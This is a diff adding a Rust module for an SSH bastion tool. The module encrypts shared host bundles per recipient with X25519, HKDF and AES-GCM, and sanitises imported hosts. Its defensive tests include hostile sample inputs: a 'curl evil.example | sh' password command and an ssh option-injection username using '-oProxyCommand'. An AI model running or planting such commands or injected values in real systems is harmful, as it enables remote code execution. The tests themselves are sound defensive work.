@@ -0,0 +1,354 @@
+//! Encrypted host bundles for sharing inventories with teammates
+//!
+//! A bundle carries a set of `HostConfig` entries, with their passwords and
+//! TOTP secrets in cleartext, inside an AES-256-GCM encrypted payload. The
+//! payload key is wrapped once per recipient: for each recipient an
+//! ephemeral X25519 key pair is generated, and the shared secret is run
+//! through HKDF-SHA256 to derive the wrapping key. Only holders of a
+//! recipient identity can open the bundle.
+//!
+//! Each user has an identity key pair. The private half is stored in
+//! `~/.ali-bastion/identity`, encrypted under the vault key.
+//!
+//! Bundles are not signed: anyone who knows a recipient's public key can
+//! make one. Settings that run commands, open ports or type into a bastion
+//! are therefore dropped on import unless the user asks to keep them, and
+//! hosts with a name ssh could read as an option are refused outright.
+
+use base64::{engine::general_purpose, Engine as _};
+use hkdf::Hkdf;
+use rand::rngs::OsRng;
+use serde::{Deserialize, Serialize};
+use sha2::Sha256;
+use std::fs;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use x25519_dalek::{EphemeralSecret, PublicKey, StaticSecret};
+
+use crate::config::HostConfig;
+use crate::utils::encryption::{decrypt_password, encrypt_password, Key};
+use crate::utils::keystore;
+
+/// Prefix of public keys as printed by `ali-bastion identity`
+pub const PUBLIC_KEY_PREFIX: &str = "ali-bastion-x25519:";
+
+const BUNDLE_VERSION: u32 = 1;
+const HKDF_INFO: &[u8] = b"ali-bastion bundle v1";
+
+#[derive(Serialize, Deserialize, Debug)]
+struct Bundle {
+    version: u32,
+    recipients: Vec<Recipient>,
+    /// `v2:` ciphertext of the JSON-encoded host list
+    payload: String,
+}
+
+#[derive(Serialize, Deserialize, Debug)]
+struct Recipient {
+    public_key: String,
+    ephemeral_public_key: String,
+    /// `v2:` ciphertext of the base64 payload key
+    wrapped_key: String,
+}
+
+pub fn get_identity_path() -> PathBuf {
+    let mut identity_path = dirs::home_dir().unwrap_or_else(|| PathBuf::from("."));
+    identity_path.push(".ali-bastion");
+    identity_path.push("identity");
+    identity_path
+}
+
+pub fn format_public_key(public_key: &PublicKey) -> String {
+    format!("{}{}", PUBLIC_KEY_PREFIX, general_purpose::STANDARD.encode(public_key.as_bytes()))
+}
+
+pub fn parse_public_key(value: &str) -> Result<PublicKey, Box<dyn std::error::Error>> {
+    let encoded = value
+        .trim()
+        .strip_prefix(PUBLIC_KEY_PREFIX)
+        .ok_or_else(|| format!("Public key must start with '{}'", PUBLIC_KEY_PREFIX))?;
+    let bytes: [u8; 32] = general_purpose::STANDARD
+        .decode(encoded)?
+        .try_into()
+        .map_err(|_| "Public key has the wrong length")?;
+    Ok(PublicKey::from(bytes))
+}
+
+/// Load the identity from `path`, generating and storing a new one if it
+/// does not exist yet
+pub fn load_or_create_identity(path: &Path, vault_key: &Key) -> Result<StaticSecret, Box<dyn std::error::Error>> {
+    if path.exists() {
+        return load_identity(path, vault_key);
+    }
+
+    let secret = StaticSecret::random_from_rng(OsRng);
+    write_identity(path, &secret, vault_key)?;
+    Ok(secret)
+}
+
+/// Store `secret` at `path` encrypted under `vault_key`, replacing any
+/// existing identity
+pub fn write_identity(path: &Path, secret: &StaticSecret, vault_key: &Key) -> Result<(), Box<dyn std::error::Error>> {
+    let encrypted = encrypt_password(&general_purpose::STANDARD.encode(secret.to_bytes()), vault_key)?;
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+
+    // Write to a temporary file first so the old identity survives a failure
+    let tmp_path = path.with_extension("tmp");
+    let mut file = keystore::create_private_file(&tmp_path)?;
+    file.write_all(encrypted.as_bytes())?;
+    file.sync_all()?;
+    if let Err(e) = fs::rename(&tmp_path, path) {
+        let _ = fs::remove_file(&tmp_path);
+        return Err(e.into());
+    }
+    Ok(())
+}
+
+pub fn load_identity(path: &Path, vault_key: &Key) -> Result<StaticSecret, Box<dyn std::error::Error>> {
+    if !path.exists() {
+        return Err("No identity exists yet. Run 'ali-bastion identity' to create one and share its public key.".into());
+    }
+
+    let encoded = decrypt_password(fs::read_to_string(path)?.trim(), vault_key)
+        .map_err(|e| format!("Failed to decrypt identity: {}", e))?;
+    let bytes: [u8; 32] = general_purpose::STANDARD
+        .decode(encoded.expose())?
+        .try_into()
+        .map_err(|_| "Identity file contains a key of the wrong length")?;
+    Ok(StaticSecret::from(bytes))
+}
+
+/// Encrypt `hosts` so that any of `recipients` can open the bundle.
+/// Secrets in `hosts` are expected in cleartext.
+pub fn seal(hosts: &[HostConfig], recipients: &[PublicKey]) -> Result<String, Box<dyn std::error::Error>> {
+    if recipients.is_empty() {
+        return Err("At least one recipient is required".into());
+    }
+
+    let payload_key = keystore::generate_key();
+    let payload = encrypt_password(&serde_json::to_string(hosts)?, &payload_key)?;
+
+    let mut wrapped = Vec::with_capacity(recipients.len());
+    for recipient in recipients {
+        let ephemeral = EphemeralSecret::random_from_rng(OsRng);
+        let ephemeral_public = PublicKey::from(&ephemeral);
+        let shared = ephemeral.diffie_hellman(recipient);
+        let wrapping_key = derive_wrapping_key(shared.as_bytes(), &ephemeral_public, recipient)?;
+
+        wrapped.push(Recipient {
+            public_key: format_public_key(recipient),
+            ephemeral_public_key: general_purpose::STANDARD.encode(ephemeral_public.as_bytes()),
+            wrapped_key: encrypt_password(&general_purpose::STANDARD.encode(payload_key), &wrapping_key)?,
+        });
+    }
+
+    let bundle = Bundle {
+        version: BUNDLE_VERSION,
+        recipients: wrapped,
+        payload,
+    };
+    Ok(serde_json::to_string_pretty(&bundle)?)
+}
+
+/// Decrypt a bundle with the local identity and return its hosts with
+/// cleartext secrets
+pub fn open(bundle: &str, identity: &StaticSecret) -> Result<Vec<HostConfig>, Box<dyn std::error::Error>> {
+    let bundle: Bundle = serde_json::from_str(bundle).map_err(|e| format!("Not a valid host bundle: {}", e))?;
+    if bundle.version != BUNDLE_VERSION {
+        return Err(format!("Unsupported bundle version {}", bundle.version).into());
+    }
+
+    let own_public = PublicKey::from(identity);
+    let own_public_encoded = format_public_key(&own_public);
+    let recipient = bundle
+        .recipients
+        .iter()
+        .find(|recipient| recipient.public_key == own_public_encoded)
+        .ok_or("This bundle was not encrypted for your identity")?;
+
+    let ephemeral_bytes: [u8; 32] = general_purpose::STANDARD
+        .decode(&recipient.ephemeral_public_key)?
+        .try_into()
+        .map_err(|_| "Bundle contains an invalid ephemeral key")?;
+    let ephemeral_public = PublicKey::from(ephemeral_bytes);
+    let shared = identity.diffie_hellman(&ephemeral_public);
+    let wrapping_key = derive_wrapping_key(shared.as_bytes(), &ephemeral_public, &own_public)?;
+
+    let payload_key: Key = general_purpose::STANDARD
+        .decode(decrypt_password(&recipient.wrapped_key, &wrapping_key).map_err(|_| "Failed to unwrap bundle key")?.expose())?
+        .try_into()
+        .map_err(|_| "Bundle key has the wrong length")?;
+    let payload = decrypt_password(&bundle.payload, &payload_key).map_err(|_| "Bundle payload is corrupted")?;
+
+    Ok(serde_json::from_str(payload.expose())?)
+}
+
+/// Settings of `host` that run commands, open ports or answer a login
+/// menu, one description each
+pub fn active_settings(host: &HostConfig) -> Vec<String> {
+    let mut settings = Vec::new();
+    if let Some(command) = &host.password_command {
+        settings.push(format!("password command: {}", command));
+    }
+    settings.extend(host.forwards.iter().map(|forward| format!("forward {}", forward)));
+    settings.extend(host.menu.iter().map(|step| format!("menu step {}", step)));
+    settings
+}
+
+/// Why `host` cannot be imported, if a field of it starts with `-`, which
+/// ssh would read as an option, or holds control characters
+pub fn unsafe_field(host: &HostConfig) -> Option<String> {
+    let mut fields = vec![
+        ("name", Some(host.name.as_str())),
+        ("username", Some(host.username.as_str())),
+        ("hostname", Some(host.hostname.as_str())),
+        ("identity file", host.identity_file.as_deref()),
+        ("jump host", host.via.as_deref()),
+    ];
+    for asset in &host.assets {
+        fields.extend([("asset name", Some(asset.name.as_str())), ("asset account", Some(asset.account.as_str())), ("asset address", Some(asset.address.as_str()))]);
+    }
+    fields.into_iter().find_map(|(field, value)| {
+        let value = value?;
+        if value.starts_with('-') {
+            Some(format!("its {} starts with '-'", field))
+        } else if value.chars().any(char::is_control) {
+            Some(format!("its {} contains control characters", field))
+        } else {
+            None
+        }
+    })
+}
+
+/// Remove the settings listed by `active_settings`
+pub fn drop_active_settings(host: &mut HostConfig) {
+    host.password_command = None;
+    host.forwards.clear();
+    host.menu.clear();
+}
+
+fn derive_wrapping_key(shared: &[u8], ephemeral_public: &PublicKey, recipient: &PublicKey) -> Result<Key, Box<dyn std::error::Error>> {
+    let mut salt = Vec::with_capacity(64);
+    salt.extend_from_slice(ephemeral_public.as_bytes());
+    salt.extend_from_slice(recipient.as_bytes());
+
+    let mut key = [0u8; 32];
+    Hkdf::<Sha256>::new(Some(&salt), shared)
+        .expand(HKDF_INFO, &mut key)
+        .map_err(|_| "Failed to derive bundle key")?;
+    Ok(key)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::utils::secret::Secret;
+
+    fn sample_hosts() -> Vec<HostConfig> {
+        vec![HostConfig {
+            name: "prod".to_string(),
+            hostname: "10.0.0.1".to_string(),
+            port: 60022,
+            username: "alice".to_string(),
+            password: Some(Secret::from("hunter2")),
+            ..Default::default()
+        }]
+    }
+
+    #[test]
+    fn test_seal_and_open_for_each_recipient() {
+        let alice = StaticSecret::random_from_rng(OsRng);
+        let bob = StaticSecret::random_from_rng(OsRng);
+        let recipients = [PublicKey::from(&alice), PublicKey::from(&bob)];
+
+        let bundle = seal(&sample_hosts(), &recipients).unwrap();
+        assert!(!bundle.contains("hunter2"));
+        assert!(!bundle.contains("10.0.0.1"));
+
+        assert_eq!(open(&bundle, &alice).unwrap(), sample_hosts());
+        assert_eq!(open(&bundle, &bob).unwrap(), sample_hosts());
+    }
+
+    #[test]
+    fn test_open_as_non_recipient_fails() {
+        let alice = StaticSecret::random_from_rng(OsRng);
+        let mallory = StaticSecret::random_from_rng(OsRng);
+
+        let bundle = seal(&sample_hosts(), &[PublicKey::from(&alice)]).unwrap();
+        assert!(open(&bundle, &mallory).is_err());
+    }
+
+    #[test]
+    fn test_public_key_round_trip() {
+        let secret = StaticSecret::random_from_rng(OsRng);
+        let public = PublicKey::from(&secret);
+
+        let encoded = format_public_key(&public);
+        assert_eq!(parse_public_key(&encoded).unwrap(), public);
+        assert!(parse_public_key("ssh-ed25519 AAAA").is_err());
+    }
+
+    #[test]
+    fn test_drop_active_settings() {
+        let mut host = HostConfig {
+            password_command: Some("curl evil.example | sh".to_string()),
+            forwards: vec![crate::config::Forward::parse("db=L:5432:db:5432").unwrap()],
+            menu: vec![crate::config::MenuStep::parse("Opt>=>web-1").unwrap()],
+            ..sample_hosts().remove(0)
+        };
+        let settings = active_settings(&host);
+        assert_eq!(settings.len(), 3);
+        assert_eq!(settings[0], "password command: curl evil.example | sh");
+
+        drop_active_settings(&mut host);
+        assert!(active_settings(&host).is_empty());
+        assert_eq!(host, sample_hosts()[0]);
+    }
+
+    #[test]
+    fn test_option_like_fields_are_refused() {
+        let alice = StaticSecret::random_from_rng(OsRng);
+        let mut hosts = sample_hosts();
+        hosts.push(HostConfig { name: "evil".to_string(), username: "-oProxyCommand=sh -c 'id';#".to_string(), ..sample_hosts().remove(0) });
+        hosts.push(HostConfig { name: "evil-2".to_string(), hostname: "10.0.0.2\n".to_string(), ..sample_hosts().remove(0) });
+        hosts.push(HostConfig { name: "evil-3".to_string(), identity_file: Some("-F/tmp/x".to_string()), ..sample_hosts().remove(0) });
+
+        let bundle = seal(&hosts, &[PublicKey::from(&alice)]).unwrap();
+        let reasons: Vec<Option<String>> = open(&bundle, &alice).unwrap().iter().map(unsafe_field).collect();
+        assert_eq!(
+            reasons,
+            [
+                None,
+                Some("its username starts with '-'".to_string()),
+                Some("its hostname contains control characters".to_string()),
+                Some("its identity file starts with '-'".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_write_identity_replaces_existing() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("identity");
+
+        load_or_create_identity(&path, &[1; 32]).unwrap();
+        let replacement = StaticSecret::random_from_rng(OsRng);
+        write_identity(&path, &replacement, &[2; 32]).unwrap();
+        assert_eq!(load_identity(&path, &[2; 32]).unwrap().to_bytes(), replacement.to_bytes());
+        assert!(!path.with_extension("tmp").exists());
+    }
+
+    #[test]
+    fn test_identity_is_stored_encrypted() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("identity");
+
+        let created = load_or_create_identity(&path, &[1; 32]).unwrap();
+        let loaded = load_or_create_identity(&path, &[1; 32]).unwrap();
+        assert_eq!(created.to_bytes(), loaded.to_bytes());
+        assert!(load_identity(&path, &[2; 32]).is_err());
+    }
+}